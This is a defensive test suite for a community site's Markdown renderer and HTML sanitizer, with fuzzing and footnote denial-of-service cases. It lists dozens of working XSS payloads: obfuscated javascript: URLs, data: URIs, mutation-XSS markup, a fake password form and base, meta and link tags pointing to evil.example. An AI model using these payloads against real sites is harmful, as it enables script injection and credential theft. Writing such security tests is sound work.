import assert from 'node:assert/strict'
import { describe, it } from 'node:test'
import fc from 'fast-check'
import { renderMarkdown } from '#lib/server/markdown.ts'
import { sanitizeText } from '#lib/server/sanitizer.ts'
import { assertHarmless } from './strict-html.ts'

const SCRIPT = 'alert(1)'
const PAGE = 'https://guildhall.example/community/posts/1'
const links = [
  `javascript:${SCRIPT}`,
  `JaVaScRiPt:${SCRIPT}`,
  `java&#115;cript:${SCRIPT}`,
  `&#x6A;avascript&colon;${SCRIPT}`,
  `java&Tab;script:${SCRIPT}`,
  `java&NewLine;script:${SCRIPT}`,
  `&#1;javascript:${SCRIPT}`,
  `\u00A0javascript:${SCRIPT}`,
  `javascript\\:${SCRIPT}`,
  `javascript&#0058;${SCRIPT}`,
  `javascript://%0a${SCRIPT}`,
  `vbscript:msgbox(1)`,
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'data:image/svg+xml,<svg/onload=alert(1)>',
  'file:///etc/passwd',
  'blob:https://guildhall.example/1',
  'view-source:javascript:1',
  '//evil.example/x',
  '/\\evil.example/x',
  '\\\\evil.example/x',
  '/&#47;evil.example',
  '/&Tab;/evil.example',
]

const markup = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)><g/onload=alert(2)//</svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<math><mi//xlink:href="data:x,<script>alert(4)</script>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<style>*{background:url(//evil.example)}</style>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>">',
  '<form action="//evil.example"><input name=password><button>Sign in</button></form>',
  '<base href="//evil.example/">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<object data="javascript:alert(1)"></object><embed src=x>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href=# onclick=alert(1) style="position:fixed;inset:0">x</a>',
  '<p id=main class="card" style="color:red">x</p>',
  '<div><!-- --!><img src=x onerror=alert(1)> -->',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<?xml version="1.0"?><x onclick=alert(1)>',
  '<textarea></textarea/><img src=x onerror=alert(1)>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<template><img src=x onerror=alert(1)></template>',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror=alert(1)></video>',
  '<a href="x" href="javascript:alert(1)"',
  '<p <b <i <img src=x onerror=alert(1)',
  '</p></div></main></body></html><script>alert(1)</script>',
  '<scr\0ipt>alert(1)</scr\0ipt>',
  '＜script＞alert(1)＜/script＞',
  '\u202Egpj.<img src=x onerror=alert(1)>\u202C',
]

const contexts = [
  (it: string) => it,
  (it: string) => `> - **${it}**`,
  (it: string) => `# ${it}`,
  (it: string) => `|${it}|\n|:-:|\n|${it}|`,
  (it: string) => `[${it}](https://example.com "${it}")`,
  (it: string) => `![${it}](/api/images/x "${it}")`,
  (it: string) => `\`\`\`html ${it}\n${it}\n\`\`\``,
  (it: string) => `\`\`\`${it}\n${it}`,
  (it: string) => `\`${it}\` ~~${it}~~`,
  (it: string) => `[${it}]\n\n[${it}]: https://example.com '${it}'`,
]

const addressed = [
  (it: string) => `[x](${it})`,
  (it: string) => `[x](<${it}>)`,
  (it: string) => `<${it}>`,
  (it: string) => it,
  (it: string) => `[x]\n\n[x]: ${it}`,
  (it: string) => `[x]\n\n[x]: <${it}> "t"`,
  (it: string) => `![x](${it})`,
  (it: string) => `![x][y]\n\n[y]: ${it}`,
  (it: string) => `[![x](${it})](${it})`,
  (it: string) => `[![x](${it})](https://www.example/)`,
  (it: string) => `![[x](${it})](${it})`,
  (it: string) => `![x](/api/images/../../${it})`,
]

describe('a text that was written to do harm', () => {
  for (const link of links) {
    it(`leads nowhere: ${JSON.stringify(link)}`, () => {
      for (const context of addressed) {
        const html = renderMarkdown(context(link))
        assertHarmless(html)
        for (const [, href = ''] of html.matchAll(/href="([^"]*)"/g)) {
          assert.match(new URL(href.replaceAll('&amp;', '&'), PAGE).href, /^https:\/\/(?:guildhall|www)\.example\//)
        }
      }
    })
  }
  for (const one of markup) {
    it(`stays text: ${JSON.stringify(one)}`, () => {
      for (const context of contexts) assertHarmless(renderMarkdown(context(one)))
    })
  }
  it('does not pass the second layer either, which sees it as HTML', () => {
    for (const one of markup) {
      for (const around of [one, `<p>${one}</p>`, `<table><tr><td>${one}`, `<a href="/x">${one}</a>`]) {
        const html = sanitizeText(around)
        assert.doesNotMatch(html, /<(?!\/?(?:a|p|img|table|tr|td)\b)|\son\w+=|style=|id=|javascript:[^"]*">/i)
        assert.doesNotMatch(html.replaceAll(/&lt;.*?&gt;/g, ''), /<img(?! src="\/api\/images\/)/)
      }
    }
    for (const link of links) assertHarmless(sanitizeText(`<a href="${link}">x</a><img src="${link}">`))
  })
})

describe('any text', () => {
  const pieces = fc.constantFrom(
    ...[
      '[',
      ']',
      '(',
      ')',
      '!',
      '<',
      '>',
      '`',
      '```',
      '*',
      '_',
      '~~',
      '|',
      '|-|',
      '\n',
      '\n\n',
      '    ',
      '- ',
      '1. ',
      '#',
    ],
    ...[
      '"',
      "'",
      '\\',
      '&',
      '&#x3c;',
      ': ',
      '[a]: ',
      '[a]',
      'a',
      'js',
      'https://a.b/',
      'javascript:',
      'data:',
      '//',
      '\0',
    ],
    ...[
      '<img src=x onerror=a>',
      '</p>',
      '<!--',
      '-->',
      '<![CDATA[',
      '/api/images/a',
      '../',
      '\u{1F600}',
      '\uD800',
      '\u202E',
    ],
  )
  const text = fc.array(fc.oneof({ weight: 5, arbitrary: pieces }, fc.string({ unit: 'binary', maxLength: 8 })), {
    maxLength: 60,
  })
  it('comes out harmless, the same every time, and goes through the second layer unchanged', () => {
    fc.assert(
      fc.property(text, (parts) => {
        const html = renderMarkdown(parts.join(''))
        assertHarmless(html)
        assert.equal(sanitizeText(html), html)
      }),
      { numRuns: 1500 },
    )
  })
})

describe('hostile footnotes', () => {
  const LENGTH = 65_536
  const many = (one: (n: number) => string) => {
    let text = ''
    for (let n = 0; text.length < LENGTH; n++) text += one(n)
    return text
  }
  const corpus: Record<string, string> = {
    'within each other': `a[^0]\n\n${many((n) => `[^${n}]: b[^${n + 1}]\n`)}`,
    'on one line': many((n) => `[^${n}]:`),
    'on one line, with a space': many((n) => `[^${n}]: `),
    'indented deeper and deeper': many((n) => `${' '.repeat(4 * (n % 200))}[^${n}]: a\n`),
    'that name themselves': `${'a[^1] '.repeat(90)}\n\n[^1]: ${'b[^1] '.repeat(90)}`,
    'of one note named often': `[^1]: ${'x'.repeat(30_000)}\n\n${'[^1]'.repeat(9_000)}`,
    'up to the bound': `${'a[^1]'.repeat(150)}\n\n[^1]: ${'x '.repeat(32_000)}`,
    'in quotes': many((n) => `${'> '.repeat(n % 60)}[^${n}]: c[^${n}]\n`),
    'in lists': many((n) => `${'  '.repeat(n % 60)}- [^${n}]: c[^${n}]\n`),
    'in tables': `|a|b|\n|-|-|\n${many((n) => `|[^${n}]|b|\n`)}`,
    'never closed': '[^'.repeat(LENGTH / 2),
    'with long names': many((n) => `[^${'x'.repeat(5_000)}${n}]: a\n`),
    'with names of objects':
      'a[^__proto__] b[^constructor] c[^toString]\n\n[^__proto__]: d\n[^constructor]: e\n[^toString]: f',
    'with HTML in names': 'a[^"><script>] \n\n[^"><script>]: <img/src=x>\n\n[^`b`]: [^`b`]',
    inline: '^['.repeat(LENGTH / 2),
  }
  for (const [name, source] of Object.entries(corpus)) {
    it(`${name} are harmless and soon done`, () => {
      const start = performance.now()
      assertHarmless(renderMarkdown(source))
      assert.ok(performance.now() - start < 5_000)
    })
  }
})
